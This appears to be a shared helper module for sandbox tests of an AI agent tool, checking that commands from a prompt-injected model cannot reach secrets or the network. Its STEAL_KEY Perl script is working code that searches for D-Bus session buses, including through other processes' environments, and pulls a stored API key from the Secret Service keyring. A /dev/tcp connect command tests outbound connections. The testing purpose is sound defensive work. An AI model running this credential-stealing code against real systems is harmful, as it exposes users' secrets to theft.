"""What the sandbox tests share: a script that hunts for a Secret Service (tests/secret_service.py)
the way a prompt-injected command would, and finding a command's processes from outside its sandbox."""
from __future__ import annotations

import os
import shlex
import socket
import time
from pathlib import Path

from tests.secret_service import SecretService  # noqa: F401 (the sandbox tests' import)

# What an approved command written by a prompt-injected model might run: find a session bus
# (its own environment, other processes' environments, the usual socket folders, abstract sockets)
# and ask the keyring on it for Numi's provider key. It prints ATTEMPTED first, so a test can tell
# that it ran at all, and FOUND with the reply holding the key where it found one.
# Perl, because perl-base is part of every Debian-like system, so it runs in the sandbox wherever
# the tests' own Python lives; a D-Bus client by hand, because the Secret Service ties a session
# to the connection that opened it, so one-call-per-connection tools (gdbus, dbus-send) cannot
# read a secret.
STEAL_KEY = r'''
use strict; use IO::Socket::UNIX;
print "ATTEMPTED\n";
my $user = $ARGV[0];
sub pad { my ($b, $n) = @_; $$b .= "\0" x ((-length $$b) % $n) }
sub str { my ($b, $s) = @_; pad($b, 4); $$b .= pack("V", length $s) . $s . "\0" }
sub sig { my ($b, $s) = @_; $$b .= pack("C", length $s) . $s . "\0" }
my $serial = 0;
sub call {
  my ($sock, $dest, $path, $iface, $member, $signature, $body) = @_;
  my $f = "";
  for ([1, "o", $path], [2, "s", $iface], [3, "s", $member], [6, "s", $dest], [8, "g", $signature]) {
    my ($code, $t, $v) = @$_;
    next unless length $v;
    pad(\$f, 8); $f .= pack("C", $code); sig(\$f, $t);
    if ($t eq "g") { sig(\$f, $v) } else { str(\$f, $v) }
  }
  my $m = pack("a1CCCVVV", "l", 1, 0, 1, length $body, ++$serial, length $f) . $f;
  pad(\$m, 8);
  print $sock $m . $body;
  while (1) {
    read($sock, my $head, 16) == 16 or return "";
    my ($type, $blen, $flen) = (unpack("a1CCCVVV", $head))[1, 4, 6];
    my $rest = $flen + ((-($flen + 16)) % 8) + $blen;
    read($sock, my $more, $rest) == $rest or return "";
    return substr($more, $rest - $blen) if $type == 2 || $type == 3;
  }
}
sub objects { my ($data, $prefix) = @_; return $data =~ m{(\Q$prefix\E[^\0]*)}g }
my @buses;
push @buses, $ENV{DBUS_SESSION_BUS_ADDRESS} if $ENV{DBUS_SESSION_BUS_ADDRESS};
for my $environ (glob "/proc/[0-9]*/environ") {
  open(my $fh, "<", $environ) or next; local $/; my $env = <$fh>;
  push @buses, $1 while $env =~ /(?:^|\0)DBUS_SESSION_BUS_ADDRESS=([^\0]*)/g;
}
push @buses, map { "unix:path=$_" } glob("/tmp/dbus-* /run/user/*/bus");
if (open(my $fh, "<", "/proc/net/unix")) { while (<$fh>) { push @buses, "unix:abstract=$1" if / @(\S+)$/ } }
my %seen; @buses = grep { !$seen{$_}++ } @buses;
for my $address (@buses) {
  my ($kind, $where) = $address =~ /^unix:(path|abstract)=([^,;]*)/ or next;
  my $sock = IO::Socket::UNIX->new(Type => SOCK_STREAM, Peer => ($kind eq "abstract" ? "\0" : "") . $where) or next;
  binmode $sock;
  print $sock "\0AUTH EXTERNAL " . unpack("H*", $<) . "\r\n";
  (<$sock> // "") =~ /^OK/ or next;
  print $sock "BEGIN\r\n";
  call($sock, "org.freedesktop.DBus", "/org/freedesktop/DBus", "org.freedesktop.DBus", "Hello", "", "");
  my $b = ""; str(\$b, "plain"); sig(\$b, "s"); str(\$b, "");
  my @ss = ("org.freedesktop.secrets", "/org/freedesktop/secrets", "org.freedesktop.Secret.Service");
  my ($session) = objects(call($sock, @ss, "OpenSession", "sv", $b), "/org/freedesktop/secrets/session/");
  $b = "\0" x 8;  # the array's length, then padding to its 8-aligned entries
  for (["service", "numi"], ["username", $user]) { pad(\$b, 8); str(\$b, $_->[0]); str(\$b, $_->[1]) }
  substr($b, 0, 4) = pack("V", length($b) - 8);
  my @items = objects(call($sock, @ss, "SearchItems", "a{ss}", $b), "/org/freedesktop/secrets/collection/");
  print "on $address: ", scalar @items, " items\n";
  next unless @items && $session;
  my $list = ""; str(\$list, $_) for @items;
  $b = pack("V", length $list) . $list;
  call($sock, @ss, "Unlock", "ao", $b);
  str(\$b, $session);
  my $secrets = call($sock, @ss, "GetSecrets", "aoo", $b);
  $secrets =~ s/[^\x20-\x7e]/./g;  # the secret bytes stay in a row
  print "FOUND $secrets\n";
}
print "TRIED ", scalar @buses, "\n";
'''


def steal_key_command(folder: Path, user: str) -> str:
    """A command that runs STEAL_KEY, written to `folder` (the workspace), for `user`'s key."""
    (folder / "steal_key.pl").write_text(STEAL_KEY)
    return f"perl steal_key.pl {shlex.quote(user)}"


def processes_with(marker: str) -> list[int]:
    """Every process whose command line holds `marker` (a pid inside a sandbox means nothing outside)."""
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                if marker.encode() in f.read():
                    found.append(int(pid))
        except OSError:
            pass
    return found


def wait_until(predicate, what: str, timeout: float = 10.0) -> None:
    """Poll `predicate` until true; fail after `timeout` seconds."""
    deadline = time.monotonic() + timeout
    while not predicate():
        assert time.monotonic() < deadline, f"timed out waiting for {what}"
        time.sleep(0.02)


class Listener:
    """A TCP port on loopback. The kernel completes a connection into the listen queue by itself,
    so what reached it is counted afterwards, without a thread: `connections()`."""

    def __init__(self):
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.sock.setblocking(False)
        self.port = self.sock.getsockname()[1]
        # A command that prints "connected" once its connection is established (bash's /dev/tcp).
        self.connect_command = f"bash -c 'exec 3<>/dev/tcp/127.0.0.1/{self.port}' 2>&1 && echo connected"

    def connections(self) -> int:
        count = 0
        while True:
            try:
                conn, _ = self.sock.accept()
            except BlockingIOError:
                return count
            conn.close()
            count += 1

    def close(self) -> None:
        self.sock.close()
